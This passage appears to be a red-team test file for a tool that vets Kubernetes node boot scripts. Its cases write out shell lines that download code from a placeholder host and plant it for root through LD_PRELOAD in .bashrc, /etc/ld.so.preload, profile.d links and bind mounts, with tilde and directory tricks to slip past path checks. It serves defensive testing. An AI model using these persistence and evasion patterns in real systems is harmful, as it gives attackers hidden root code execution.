// Red-team round 76 on EKS NODE user data: neighbours of round 76's tilde expansion (shell.ts tildeExpanded) and
// links-at-judged-paths (rootReads.ts linkedAt/linkTargets/insideItself), plus working-directory routes no 6x/7x node
// file tried (directory stack, CDPATH, cdable_vars, physical `..`), tmpfiles.d %h/L lines and copied/moved links.
// Probed: HOME set by a prefix / subshell / pipeline element / $( ) / function local before ~; eval and xargs `sh -c`
// re-reading a quoted tilde; ~+, ~-, ~N after cd/pushd; `>>~root/...`; tilde after `:` in an assignment; tmpfiles.d
// w+/L+/C+ with %h and literal paths; ln -t / -st / --target-directory=, ln into a directory operand (with and without
// a trailing slash), link(1), mv/cp -a/cp -P of a symlink made before its target is downloaded, relative symlink
// targets; mount --bind; CDPATH, popd, cd -, cd -P, cdable_vars, `..` after a link component; vim's own ~ in :e.
// Misses (18 insecure, 2 secure):
// - SUBSHELL-SCOPE (2: T2, T28): HOME assigned in ( ) or a pipeline element leaks into the outer ctx, moving `~` off
//   /root (the $( ) form, T29, and function locals, T3, hold).
// - WORKING-DIRECTORY (6: T7, T22, T31, T45, T46, T47): cd never sets OLDPWD (~- unknown, unrefused); CDPATH,
//   popd, shopt cdable_vars, cd -P ignored; a written path's `..` after a link component normalised lexically.
// - TMPFILES-LINK (2: T12, T32): tmpfiles.d L/L+ lines judged only at resolver files, not as links at judged paths
//   (w+ %h and C+ %h are read: T11, T33 held).
// - LN-DIRECTORY-FORMS (5: T13, T14, T34, T36, T43): ln -t/--target-directory not parsed for ln; ln into a directory
//   operand dropped by insideItself (the `ln -sfn DIR LINKDIR` twin rule swallows the DIR/basename reading).
// - COPIED-LINK (3: T17, T38, T40): cp -a/-P and mv of a recorded link made before its target is written: the copy
//   is not recorded as a link, so the later download never reaches it.
// - secure (2: S16, S18): xargs items tilde-expanded without a shell; `cd -` read as `cd` (HOME=/root), which also
//   makes T30 refused at the wrong file.
// Held (insecure refused 30 of 48): HOME prefix (T1), function-local HOME (T3), eval/xargs sh -c tildes (T4, T5), ~+
// and ~N (T6, T8), glued redirections (T9), `:~` assignments (T10), tmpfiles w+ %h / C+ %h (T11, T33), link(1) (T15),
// mv/cp -a of a link to an already-downloaded file (T16, T39), relative symlink targets (T18, T19, T37), mount --bind
// (T20, T21, T41, T42), cd into a link (T23), vim :e ~ (T24), install -D/cp -t/cd ~root (T25-T27), $( ) HOME (T29),
// cd - (T30, wrong file), cp -s -t (T35), bare cd with HOME=/etc (T44), cp through a directory link (T48).
// Secure clean 16 of 18: sed w / awk > "~/x" literal names, ~"$1", ~ in log text and heredocs, tmpfiles d %h and
// L+ to image/literal files, ln -s -t /usr/local/bin, root's alias, HOME exported for the whole script, mount of a
// block device, relative profile.d link to a literal script, download baseline, subshell HOME with a literal alias,
// link made before a literal PS1, eval of a single-quoted '~root'.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

const file = heredocFile;
const SO = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
const DL = "curl -fsSL -o /opt/ops.sh https://downloads.example.com/ops.sh";
const PRE = "export LD_PRELOAD=/opt/x.so";
const n = (id: string) => `dev-${id}-76n-nodes`;

const insecure: NodeCase[] = [
    // ---- HOME scoping around ~ ----
    // bash(1) "Simple Command Expansion": the words are expanded (tilde expansion included) BEFORE the prefix
    // assignments, which only reach the command's environment: `HOME=/tmp tee ~/.bashrc` writes /root/.bashrc.
    devNodeCase(
        "T1 HOME=/tmp prefix on tee: ~ in the same command is still the shell's HOME (/root)",
        devNodeScript(n("t1"), [SO, `echo '${PRE}' | HOME=/tmp tee -a ~/.bashrc`]),
    ),
    // bash(1) "( list ): list is executed in a subshell ... Variable assignments ... do not remain in effect after the
    // command completes".
    // Was a MISS (fixed in round 76): bash(1) "( list ): list is executed in a subshell" (no assignment survives it); after `(export HOME=/tmp; true)` the shell's HOME is still /root, so `>> ~/.bashrc` appends LD_PRELOAD to root's bashrc (bash(1) INVOCATION: read by root's interactive shells; ld.so(8): preloaded into every program root starts there). Accepted (got []): rootReads.ts RootReads command/tilde reads ctx.vars.get("HOME"), and the subshell's `export HOME=/tmp` leaks into the outer ctx. Fix: run ( ) groups (and pipeline elements, T28) with a copy of ctx.vars/cwd that is dropped afterwards (as $( ) already is: T29 held); at least: a HOME assigned only in a subshell must not move `~` (fail closed to root's home).
    devNodeCase(
        "T2 HOME=/tmp set inside a subshell only, then >> ~/.bashrc outside",
        devNodeScript(n("t2"), [SO, "(export HOME=/tmp; true)", `echo '${PRE}' >> ~/.bashrc`]),
    ),
    // bash(1) "local ... the variable and its value are visible to the function and the commands it invokes" only.
    devNodeCase(
        "T3 HOME made local in a function, then >> ~/.bashrc after the call",
        devNodeScript(n("t3"), [SO, "scratch() { local HOME=/tmp; cd ~; }", "scratch", `echo '${PRE}' >> ~/.bashrc`]),
    ),
    // ---- re-read tildes ----
    // bash(1) eval: "The args are read and concatenated together into a single command ... then read and executed by
    // the shell": the quoted ~root in F's value is a word's start in the re-read line, so it expands.
    devNodeCase(
        "T4 eval re-reads a quoted '~root/.bashrc' from a variable as a redirection target",
        devNodeScript(n("t4"), [SO, "F='~root/.bashrc'", `eval "echo '${PRE}' >> $F"`]),
    ),
    // xargs(1) -I replaces {} in the arguments; `sh -c` then parses `~root/.bashrc` as shell text (tilde expanded).
    devNodeCase(
        "T5 xargs -I{} sh -c with ~root read from stdin (the inner shell expands it)",
        devNodeScript(n("t5"), [SO, `echo '~root' | xargs -I{} sh -c "echo '${PRE}' >> {}/.bashrc"`]),
    ),
    // ---- ~+ ~- ~N ----
    // bash(1) "Tilde Expansion": "If the tilde-prefix is a `~+', the value of the shell variable PWD replaces the
    // tilde-prefix. If the tilde-prefix is a `~-', the value of the shell variable OLDPWD ... is substituted."
    devNodeCase(
        "T6 cd /root && >> ~+/.bashrc",
        devNodeScript(n("t6"), [SO, `cd /root && echo '${PRE}' >> ~+/.bashrc`]),
    ),
    // Was a MISS (fixed in round 76): bash(1) Tilde Expansion: "If the tilde-prefix is a `~-', the value of the shell variable OLDPWD ... is substituted", and cd "sets the OLDPWD environment variable to the value of the current working directory before the change": after `cd /etc; cd /tmp`, ~-/ld.so.preload is /etc/ld.so.preload (ld.so(8): preloaded into every program, root's included). Accepted (got []): RootReads.tilde maps `~-` to ctx.vars OLDPWD, which cd never sets, so SUBSTITUTED/ld.so.preload, a path with an unknown part that no judge refuses (the unknown-variable-part fix in flight may close this as a side effect). Fix: cd/pushd/popd set OLDPWD (and PWD) in ctx.vars as bash does; an unknown OLDPWD under a write: fail closed.
    devNodeCase(
        "T7 cd /etc; cd /tmp; > ~-/ld.so.preload (OLDPWD)",
        devNodeScript(n("t7"), [SO, "cd /etc", "cd /tmp", "echo /opt/x.so > ~-/ld.so.preload"]),
    ),
    // bash(1) "Tilde Expansion": "If the characters following the tilde in the tilde-prefix consist of a number N,
    // optionally prefixed by a `+' or a `-', the tilde-prefix is replaced with the corresponding element from the
    // directory stack, as it would be displayed by the dirs builtin" (gnu.org bash manual "Directory Stack Builtins").
    devNodeCase(
        "T8 pushd /etc; pushd /tmp; > ~1/ld.so.preload (directory stack)",
        devNodeScript(n("t8"), [
            SO,
            "pushd /etc >/dev/null",
            "pushd /tmp >/dev/null",
            "echo /opt/x.so > ~1/ld.so.preload",
        ]),
    ),
    devNodeCase(
        "T9 redirection word glued to the operator: >>~root/.bashrc and 2>~/.bash_profile",
        devNodeScript(n("t9"), [SO, `echo '${PRE}' >>~root/.bashrc`]),
    ),
    // bash(1): "Each variable assignment is checked for unquoted tilde-prefixes immediately following a : or the first =".
    devNodeCase(
        "T10 tilde after : in an assignment, then ${P#*:} as the write target",
        devNodeScript(n("t10"), [
            SO,
            "P=/tmp:~root/.bashrc.d",
            "mkdir -p ~root/.bashrc.d",
            `echo '${PRE}' > "\${P#*:}/ops.sh"`,
        ]),
    ),
    // ---- tmpfiles %h ----
    // tmpfiles.d(5) specifiers: "%h User home directory. This is the home directory of the user running the command.
    // In case of the system instance this resolves to "/root"." w+ appends the argument to the file.
    devNodeCase(
        "T11 tmpfiles.d w+ %h/.bashrc appends LD_PRELOAD (systemd-tmpfiles --create)",
        devNodeScript(n("t11"), [
            SO,
            ...file("/etc/tmpfiles.d/ops.conf", [`w+ %h/.bashrc - - - - \\n${PRE}\\n`]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    // Was a MISS (fixed in round 76): tmpfiles.d(5): "L, L+ Create a symlink if it does not exist yet" and specifier "%h ... In case of the system instance this resolves to /root": `L+ %h/.bashrc.d/ops.sh ... /opt/ops.sh` makes root's .bashrc.d source a downloaded script (bash(1): root's interactive shells; Amazon Linux's /root/.bashrc sources ~/.bashrc.d/*). Accepted (got []): the tmpfiles reader (rootReads.ts, round 74 tmpfiles L/C over resolver files) judges L lines only at resolver files; w+ %h is read (T11 held) and C+ %h too (T33 held). Fix: read every tmpfiles L/L+ line as `ln -sfn TARGET PATH` (recordLinks/linkedAt, with specifiers expanded: %h=/root, %E=/etc, %S=/var/lib, %t=/run ...).
    devNodeCase(
        "T12 tmpfiles.d L+ %h/.bashrc.d/ops.sh to a downloaded script",
        devNodeScript(n("t12"), [
            DL,
            ...file("/etc/tmpfiles.d/ops.conf", [
                "d %h/.bashrc.d 0700 root root -",
                "L+ %h/.bashrc.d/ops.sh - - - - /opt/ops.sh",
            ]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    // ---- links ----
    // coreutils ln(1): "-t, --target-directory=DIRECTORY specify the DIRECTORY in which to create the links".
    // Was a MISS (fixed in round 76): coreutils ln(1): "-t, --target-directory=DIRECTORY specify the DIRECTORY in which to create the links": `ln -s -t /etc/profile.d /opt/ops.sh` makes /etc/profile.d/ops.sh -> the downloaded /opt/ops.sh, which every root login shell sources (bash(1) INVOCATION, /etc/profile). Accepted (got []): rootReads.ts copiedFrom/copierOperands read ln's last operand as the destination (/opt/ops.sh) and ignore -t for ln (cp -s -t works: T35 held). Fix: copierOperands honours -t DIR/-tDIR/--target-directory[=]DIR for ln as for cp (every positional is a source, links DIR/basename).
    devNodeCase(
        "T13 ln -s -t /etc/profile.d of a downloaded script",
        devNodeScript(n("t13"), [DL, "ln -s -t /etc/profile.d /opt/ops.sh"]),
    ),
    // Was a MISS (fixed in round 76): coreutils ln(1) --target-directory=DIRECTORY (a hard link: link(2), the same inode as the download) into /etc/profile.d, sourced by root's login shells. Accepted (got []): same class as T13. Fix: as T13.
    devNodeCase(
        "T14 ln --target-directory=/etc/profile.d (hard link) of a downloaded script",
        devNodeScript(n("t14"), [DL, "ln --target-directory=/etc/profile.d /opt/ops.sh"]),
    ),
    // coreutils link(1): "Call the link function to create a link named FILE2 to an existing FILE1."
    devNodeCase(
        "T15 coreutils link(1) FILE1 FILE2 into /etc/profile.d",
        devNodeScript(n("t15"), [DL, "link /opt/ops.sh /etc/profile.d/ops.sh"]),
    ),
    // mv(1) renames the link itself (rename(2) moves the directory entry; a symlink stays a symlink).
    devNodeCase(
        "T16 ln -s a downloaded script to /tmp/l, then mv /tmp/l /etc/profile.d/ops.sh",
        devNodeScript(n("t16"), [DL, "ln -s /opt/ops.sh /tmp/l", "mv /tmp/l /etc/profile.d/ops.sh"]),
    ),
    // cp(1) -a is -dR --preserve=all; -d is --no-dereference: a symlink is copied as a symlink. The link is made and
    // copied BEFORE its target is downloaded, so its target is the download at boot.
    // Was a MISS (fixed in round 76): cp(1) -a is "-dR --preserve=all" and -d/-P "never follow symbolic links in SOURCE": cp copies the link itself, so /etc/profile.d/ops.sh -> /opt/ops.sh, and the download made AFTER the copy is what root's login shells source. Accepted (got []): recordLinks records links only for ln and cp -s/-l; a copied or moved link is read as a copy of /tmp/l's content at copy time (the image's own /opt/ops.sh, nothing new), and the later write reaches /tmp/l through linkTargets but not the copy. T39 (download first) held. Fix: cp -a/-d/-P/--no-dereference/--preserve=links and mv (and rsync -l/-a, install? no: install dereferences) of a path in this.links record a link at the destination with the same target (then linkedAt judges it).
    devNodeCase(
        "T17 ln -s /opt/ops.sh /tmp/l; cp -a /tmp/l /etc/profile.d/ops.sh; then download /opt/ops.sh",
        devNodeScript(n("t17"), ["ln -s /opt/ops.sh /tmp/l", "cp -a /tmp/l /etc/profile.d/ops.sh", DL]),
    ),
    // symlink(7)/path_resolution(7): a relative symlink's target is resolved from the directory holding the link,
    // not from the cwd of the process that made it: from /etc/profile.d, ../../opt/ops.sh is /opt/ops.sh.
    devNodeCase(
        "T18 cd /var/lib/ops && ln -s ../../opt/ops.sh /etc/profile.d/ops.sh (relative to the link's directory)",
        devNodeScript(n("t18"), [
            DL,
            "mkdir -p /var/lib/ops && cd /var/lib/ops",
            "ln -s ../../opt/ops.sh /etc/profile.d/ops.sh",
        ]),
    ),
    devNodeCase(
        "T19 ln -s made first at /etc/profile.d, relative target, then the download",
        devNodeScript(n("t19"), ["ln -s ../../opt/ops.sh /etc/profile.d/ops.sh", DL]),
    ),
    // mount(8) --bind: "Remount part of the file hierarchy somewhere else"; files under /root/.bashrc.d are then /opt/rc's.
    devNodeCase(
        "T20 mount --bind a downloaded tree over /root/.bashrc.d",
        devNodeScript(n("t20"), [
            "mkdir -p /opt/rc /root/.bashrc.d",
            "curl -fsSL -o /opt/rc/ops.sh https://downloads.example.com/ops.sh",
            "mount --bind /opt/rc /root/.bashrc.d",
        ]),
    ),
    devNodeCase(
        "T21 mount -o bind a written file over /etc/ld.so.preload",
        devNodeScript(n("t21"), [
            SO,
            "echo /opt/x.so > /opt/preload",
            "touch /etc/ld.so.preload",
            "mount -o bind /opt/preload /etc/ld.so.preload",
        ]),
    ),
    // bash(1) cd: "The variable CDPATH defines the search path for the directory containing dir".
    // Was a MISS (fixed in round 76): bash(1) cd: "The variable CDPATH defines the search path for the directory containing dir: each directory name in CDPATH is searched for dir" (scripts too when CDPATH is exported/set): with CDPATH=/, `cd etc` from /tmp enters /etc, and `> ld.so.preload` writes /etc/ld.so.preload (ld.so(8)). Accepted (got []): RootReads cd resolves a relative dir against ctx.cwd only (/tmp/etc). Fix: a relative cd operand not starting with ./ or ../ while CDPATH is set (or unknown): try each CDPATH entry (the first that the script made or any that may exist: the working directory becomes unknown, ctx.cwdUnknown, fail closed).
    devNodeCase(
        "T22 CDPATH=/ exported, cd /tmp then cd etc (finds /etc) and > ld.so.preload",
        devNodeScript(n("t22"), [
            SO,
            "export CDPATH=/",
            "cd /tmp",
            "cd etc >/dev/null",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    devNodeCase(
        "T23 ln -s /etc /tmp/e && cd /tmp/e && > ld.so.preload",
        devNodeScript(n("t23"), [SO, "ln -s /etc /tmp/e", "cd /tmp/e", "echo /opt/x.so > ld.so.preload"]),
    ),
    // Vim :help expand-env / filename-modifiers: `~` in a file name argument of :e is the home directory.
    devNodeCase(
        "T24 vim -es: :e ~/.bashrc then append LD_PRELOAD and :wq",
        devNodeScript(n("t24"), [SO, `vim -es -c 'e ~/.bashrc' -c 'call append(line("$"), "${PRE}")' -c 'wq'`]),
    ),
    devNodeCase(
        "T25 install -D of a downloaded script to ~root/.bashrc.d, and cp -t ~root/.bashrc.d",
        devNodeScript(n("t25"), [DL, "install -D -m644 /opt/ops.sh ~root/.bashrc.d/ops.sh"]),
    ),
    devNodeCase(
        "T26 cp -t ~root/.bashrc.d a downloaded script",
        devNodeScript(n("t26"), [DL, "mkdir -p ~root/.bashrc.d", "cp -t ~root/.bashrc.d /opt/ops.sh"]),
    ),
    devNodeCase(
        "T27 cd ~root then >> .bash_profile (relative after a tilde cd)",
        devNodeScript(n("t27"), [SO, `cd ~root && echo '${PRE}' >> .bash_profile`]),
    ),
    // ---- second pass: neighbours of the first misses ----
    // Was a MISS (fixed in round 76): bash(1) Pipelines: "Each command in a multi-command pipeline ... is executed in its own subshell" (lastpipe off in scripts), so `true | export HOME=/tmp` leaves HOME=/root and ~/.bashrc is /root/.bashrc (LD_PRELOAD for root's shells, ld.so(8)). Accepted (got []): same class as T2 (pipeline elements' assignments leak into ctx.vars used by RootReads.tilde). Fix: as T2, scope each non-last pipeline element (and the last without shopt lastpipe) like a subshell.
    devNodeCase(
        "T28 HOME=/tmp exported in a pipeline element (a subshell), then >> ~/.bashrc",
        devNodeScript(n("t28"), [SO, "true | export HOME=/tmp", `echo '${PRE}' >> ~/.bashrc`]),
    ),
    devNodeCase(
        "T29 HOME=/tmp assigned inside $( ) (a subshell), then >> ~/.bashrc",
        devNodeScript(n("t29"), [SO, 'X="$(HOME=/tmp; echo ok)"', `echo '${PRE}' >> ~/.bashrc`]),
    ),
    // bash(1) cd: "An argument of - is converted to $OLDPWD before the directory change is attempted."
    // Held, but for the wrong file: the pack reads `cd -` as `cd` (HOME) and refuses "/root/ld.so.preload" (an unknown
    // file under /root); the real write is /etc/ld.so.preload. The same misreading over-refuses S18.
    // Round 76 (fix76-node4): now refused at /etc/ld.so.preload (cd - goes to OLDPWD).
    devNodeCase(
        "T30 cd /etc; cd /tmp; cd - ; > ld.so.preload",
        devNodeScript(n("t30"), [SO, "cd /etc", "cd /tmp", "cd - >/dev/null", "echo /opt/x.so > ld.so.preload"]),
        /\/etc\/ld\.so\.preload/,
    ),
    // bash manual "Directory Stack Builtins": popd "removes the top directory from the stack and changes to the new top".
    // Was a MISS (fixed in round 76): bash manual "Directory Stack Builtins": popd "removes the top directory from the stack and changes to the new top directory": after pushd /etc; pushd /tmp; popd the cwd is /etc, so `> ld.so.preload` writes /etc/ld.so.preload (ld.so(8)). Accepted (got []): RootReads tracks pushd (T8's ~1 fails closed) but popd does not change ctx.cwd (the write is read at /tmp). Fix: keep a directory stack in Context (pushd pushes, popd pops and cds, `pushd +N`/`popd +N` rotate; unknown: cwdUnknown).
    devNodeCase(
        "T31 pushd /etc; pushd /tmp; popd; > ld.so.preload",
        devNodeScript(n("t31"), [
            SO,
            "pushd /etc >/dev/null",
            "pushd /tmp >/dev/null",
            "popd >/dev/null",
            "echo /opt/x.so > ld.so.preload",
        ]),
        /\/etc\/ld\.so\.preload/,
        true,
    ),
    // Was a MISS (fixed in round 76): tmpfiles.d(5) L+ (as T12) with a literal path: /root/.bashrc.d/ops.sh becomes a link to the downloaded /opt/ops.sh, run by root's shells. Accepted (got []): same class as T12 (tmpfiles L judged only at resolver files). Fix: as T12.
    devNodeCase(
        "T32 tmpfiles.d L+ /root/.bashrc.d/ops.sh (literal path) to a downloaded script",
        devNodeScript(n("t32"), [
            DL,
            ...file("/etc/tmpfiles.d/ops.conf", [
                "d /root/.bashrc.d 0700 root root -",
                "L+ /root/.bashrc.d/ops.sh - - - - /opt/ops.sh",
            ]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    // tmpfiles.d(5) "C, C+: Recursively copy a file or directory".
    devNodeCase(
        "T33 tmpfiles.d C+ %h/.bashrc.d/ops.sh from a downloaded script",
        devNodeScript(n("t33"), [
            DL,
            ...file("/etc/tmpfiles.d/ops.conf", [
                "d %h/.bashrc.d 0700 root root -",
                "C+ %h/.bashrc.d/ops.sh - - - - /opt/ops.sh",
            ]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    // Was a MISS (fixed in round 76): coreutils ln(1) -t with the option stuck to -s (`-st DIR`, getopt clustering): as T13. Accepted (got []): same class as T13. Fix: as T13 (clustered short options: the letter after t, or the next word, is DIR).
    devNodeCase(
        "T34 ln -st /etc/profile.d (stuck -t) of a downloaded script",
        devNodeScript(n("t34"), [DL, "ln -st /etc/profile.d /opt/ops.sh"]),
    ),
    // cp(1): "-t, --target-directory=DIRECTORY copy all SOURCE arguments into DIRECTORY"; -s makes symbolic links.
    devNodeCase(
        "T35 cp -s -t /etc/profile.d of a downloaded script",
        devNodeScript(n("t35"), [DL, "cp -s -t /etc/profile.d /opt/ops.sh"]),
    ),
    // Was a MISS (fixed in round 76): coreutils ln(1) "In the 2nd form, create a link to TARGET in the current directory. In the 3rd and 4th forms, create links to each TARGET in DIRECTORY": `ln -s /opt/ops.sh /etc/profile.d/` makes /etc/profile.d/ops.sh -> the download (sourced by root's login shells). Accepted (got []): copiedFrom yields both readings ([/etc/profile.d, src] and [/etc/profile.d/ops.sh, src]); recordLinks records the first as a link AT /etc/profile.d, and then linkedAt returns early for the second because rootReads.ts insideItself (links.get(dirname(link)) === target) takes it for `ln -sfn DIR LINKDIR` twin. Fix: insideItself only when the recorded parent link's target is a DIRECTORY containing the link's own target name (the `ln -sfn /opt/rc /root/.bashrc.d` case), never to drop the into-directory reading of a file target; or judge the two readings independently.
    devNodeCase(
        "T36 ln -s a downloaded script into /etc/profile.d/ (directory operand with trailing slash)",
        devNodeScript(n("t36"), [DL, "ln -s /opt/ops.sh /etc/profile.d/"]),
    ),
    devNodeCase(
        "T37 ln -sr (relative) of a downloaded script to /etc/profile.d/ops.sh",
        devNodeScript(n("t37"), [DL, "ln -sr /opt/ops.sh /etc/profile.d/ops.sh"]),
    ),
    // Was a MISS (fixed in round 76): cp(1) -P "never follow symbolic links in SOURCE": as T17. Accepted (got []): same class as T17. Fix: as T17.
    devNodeCase(
        "T38 ln -s before the download, cp -P (no-dereference) of the link into /etc/profile.d",
        devNodeScript(n("t38"), ["ln -s /opt/ops.sh /tmp/l", "cp -P /tmp/l /etc/profile.d/ops.sh", DL]),
    ),
    devNodeCase(
        "T39 ln -s after the download, cp -a of the link into /etc/profile.d",
        devNodeScript(n("t39"), [DL, "ln -s /opt/ops.sh /tmp/l", "cp -a /tmp/l /etc/profile.d/ops.sh"]),
    ),
    // Was a MISS (fixed in round 76): rename(2)/mv(1): mv moves the directory entry, so a symlink stays a symlink to /opt/ops.sh at /etc/profile.d/ops.sh, then downloaded. Accepted (got []): same class as T17 (T16, link target written first, held). Fix: as T17 (mv of a recorded link moves the record: links.set(dest, target); links.delete(src)).
    devNodeCase(
        "T40 ln -s before the download, mv of the link into /etc/profile.d",
        devNodeScript(n("t40"), ["ln -s /opt/ops.sh /tmp/l", "mv /tmp/l /etc/profile.d/ops.sh", DL]),
    ),
    // podSpec.ts WRITABLE_DATA lists /data as a directory pods may write: bound over containerd's state it is the
    // runtime's own (held: refused).
    devNodeCase(
        "T41 mount --bind a pod-writable /data directory over /var/lib/containerd",
        devNodeScript(n("t41"), [
            "mkdir -p /data/containerd /var/lib/containerd",
            "mount --bind /data/containerd /var/lib/containerd",
        ]),
    ),
    // The pack's model (podSpec.ts NODE_SECRETS): containerd's state appears at the bind source, which pods may mount
    // (held: refused).
    devNodeCase(
        "T42 mount --bind /var/lib/ops-data/containerd over /var/lib/containerd (state visible at the source)",
        devNodeScript(n("t42"), [
            "mkdir -p /var/lib/ops-data/containerd /var/lib/containerd",
            "mount --bind /var/lib/ops-data/containerd /var/lib/containerd",
        ]),
    ),
    // Was a MISS (fixed in round 76): As T36 without the trailing slash (ln(1) 3rd form: an existing DIRECTORY operand gets DIRECTORY/basename(TARGET)). Accepted (got []): same insideItself early return as T36. Fix: as T36.
    devNodeCase(
        "T43 ln -s a downloaded script into /etc/profile.d (directory operand, no slash)",
        devNodeScript(n("t43"), [DL, "ln -s /opt/ops.sh /etc/profile.d"]),
    ),
    // ---- round 76 node3 fixer neighbours (links, insecure) ----
    // getopt(3) clustering: `-t/etc/profile.d` is -t with its value stuck to it (coreutils ln -t DIRECTORY).
    devNodeCase(
        "N1 ln -s -t/etc/profile.d (value stuck to -t) of a downloaded script",
        devNodeScript(n("n1"), [DL, "ln -s -t/etc/profile.d /opt/ops.sh"]),
    ),
    // tmpfiles.d(5) %H is the host name, which the pack cannot know: the link may be any profile.d script.
    devNodeCase(
        "N2 tmpfiles.d L+ /etc/profile.d/%H.sh (a specifier the pack does not resolve) to a literal script",
        devNodeScript(n("n2"), [
            ...file("/opt/ops/prompt.sh", ["PS1='[ops \\W]\\$ '"]),
            ...file("/etc/tmpfiles.d/ops.conf", ["L+ /etc/profile.d/%H.sh - - - - /opt/ops/prompt.sh"]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    // tmpfiles.d(5) L+ applied before the download: the link is there when /opt/ops.sh is written (linkTargets).
    devNodeCase(
        "N3 tmpfiles.d L+ /etc/profile.d/ops.sh applied first, the script downloaded to its target after",
        devNodeScript(n("n3"), [
            ...file("/etc/tmpfiles.d/ops.conf", ["L+ /etc/profile.d/ops.sh - - - - /opt/ops.sh"]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
            DL,
        ]),
    ),
    // rsync(1) -a includes -l/--links: "copy symlinks as symlinks".
    devNodeCase(
        "N4 ln -s before the download, rsync -a of the link into /etc/profile.d",
        devNodeScript(n("n4"), ["ln -s /opt/ops.sh /tmp/l", "rsync -a /tmp/l /etc/profile.d/ops.sh", DL]),
    ),
    // cp(1) -R without -L: "When copying from a symbolic link, cp normally follows the link only when not copying
    // recursively": a directory holding the link is copied with the link in it.
    devNodeCase(
        "N5 a link made in /tmp/rc before the download, cp -r /tmp/rc into /root/.bashrc.d",
        devNodeScript(n("n5"), [
            "mkdir -p /tmp/rc && ln -s /opt/ops.sh /tmp/rc/ops.sh",
            "cp -r /tmp/rc/. /root/.bashrc.d",
            DL,
        ]),
    ),
    // The insecure twin of S16: an absolute item needs no tilde expansion.
    devNodeCase(
        "N6 xargs -I{} cp (no shell) with /root/.bashrc from stdin",
        devNodeScript(n("n6"), [
            SO,
            `echo '${PRE}' > /tmp/env.txt`,
            "echo /root/.bashrc | xargs -I{} cp /tmp/env.txt {}",
        ]),
    ),
    // bash(1) cd: "If dir is not supplied, the value of the HOME shell variable is the default."
    devNodeCase(
        "T44 export HOME=/etc; bare cd; > ld.so.preload",
        devNodeScript(n("t44"), [SO, "export HOME=/etc", "cd", "echo /opt/x.so > ld.so.preload"]),
    ),
    // bash(1) shopt cdable_vars: "an argument to the cd builtin command that is not a directory is assumed to be the
    // name of a variable whose value is the directory to change to".
    // Was a MISS (fixed in round 76): bash(1) shopt cdable_vars: "an argument to the cd builtin command that is not a directory is assumed to be the name of a variable whose value is the directory to change to": `cd E` with E=/etc enters /etc and `> ld.so.preload` writes /etc/ld.so.preload (ld.so(8)). Accepted (got []): RootReads cd ignores shopt cdable_vars (cwd read as /tmp/E). Fix: after `shopt -s cdable_vars`, a bare-name cd operand is that variable's value when the directory is not one the script made (or the cwd is unknown: fail closed).
    devNodeCase(
        "T45 shopt -s cdable_vars; E=/etc; cd /tmp; cd E; > ld.so.preload",
        devNodeScript(n("t45"), [
            SO,
            "shopt -s cdable_vars",
            "E=/etc",
            "cd /tmp",
            "cd E",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    // bash(1) cd: "-P ... use the physical directory structure ... resolving symbolic links while traversing dir and
    // before processing instances of .. in dir"; /tmp/s -> /etc/ssh, so /tmp/s/.. is /etc.
    // Was a MISS (fixed in round 76): bash(1) cd: "The -P option causes cd to use the physical directory structure by resolving symbolic links while traversing dir and before processing instances of .. in dir": with /tmp/s -> /etc/ssh, `cd -P /tmp/s/..` enters /etc, and `> ld.so.preload` writes /etc/ld.so.preload (ld.so(8)). Accepted (got []): RootReads cd normalises `..` lexically (posix.resolve: /tmp). Fix: resolve a cd operand's components through the links the script made (this.links) before `..` when -P is given or `set -P`/`set -o physical` is on.
    devNodeCase(
        "T46 ln -s /etc/ssh /tmp/s; cd -P /tmp/s/..; > ld.so.preload",
        devNodeScript(n("t46"), [SO, "ln -s /etc/ssh /tmp/s", "cd -P /tmp/s/..", "echo /opt/x.so > ld.so.preload"]),
    ),
    // path_resolution(7): ".." after a symlink component is the parent of the link's TARGET (the kernel resolves
    // physically): /tmp/s/../ld.so.preload with /tmp/s -> /etc/ssh is /etc/ld.so.preload.
    // Was a MISS (fixed in round 76): path_resolution(7): the kernel resolves each component in turn, a symlink's target before the next component, so `..` after /tmp/s (-> /etc/ssh) is /etc: `> /tmp/s/../ld.so.preload` writes /etc/ld.so.preload (ld.so(8)) whatever the shell's -L/-P mode (redirections are not cd). Accepted (got []): the write's path is normalised lexically (hostPath/posix.resolve: /tmp/ld.so.preload) before linkTargets, so the link is never seen. Fix: before normalising a written path, walk its components through this.links (physical `..`), or fail closed when `..` follows a component that is a link the script made.
    devNodeCase(
        "T47 ln -s /etc/ssh /tmp/s; > /tmp/s/../ld.so.preload (physical ..)",
        devNodeScript(n("t47"), [SO, "ln -s /etc/ssh /tmp/s", "echo /opt/x.so > /tmp/s/../ld.so.preload"]),
    ),
    devNodeCase(
        "T48 ln -s /etc/profile.d /opt/pd; cp a downloaded script to /opt/pd/ops.sh",
        devNodeScript(n("t48"), [DL, "ln -s /etc/profile.d /opt/pd", "cp /opt/ops.sh /opt/pd/ops.sh"]),
    ),
    // ---- round 76 fix neighbours (fix76-node4: subshell scope, cd/pushd/popd, CDPATH, cdable_vars, physical ..) ----
    // bash(1) "Compound Commands": "{ list; } list is simply executed in the current shell environment" (no subshell).
    devNodeCase(
        "N4-1 cd /tmp; { cd /etc; }; > ld.so.preload (a brace group is no subshell)",
        devNodeScript(n("n41"), [SO, "cd /tmp", "{ cd /etc; }", "echo /opt/x.so > ld.so.preload"]),
        /\/etc\/ld\.so\.preload/,
    ),
    // bash(1) shopt lastpipe: "the shell runs the last command of a pipeline not executed in the background in the
    // current shell environment" (job control is off in scripts).
    devNodeCase(
        "N4-2 shopt -s lastpipe; true | cd /etc; > ld.so.preload",
        devNodeScript(n("n42"), [
            SO,
            "shopt -s lastpipe",
            "cd /tmp",
            "true | cd /etc",
            "echo /opt/x.so > ld.so.preload",
        ]),
        /\/etc\/ld\.so\.preload/,
    ),
    // What a subshell writes is written.
    devNodeCase(
        "N4-3 (cd /etc && > ld.so.preload) inside a subshell",
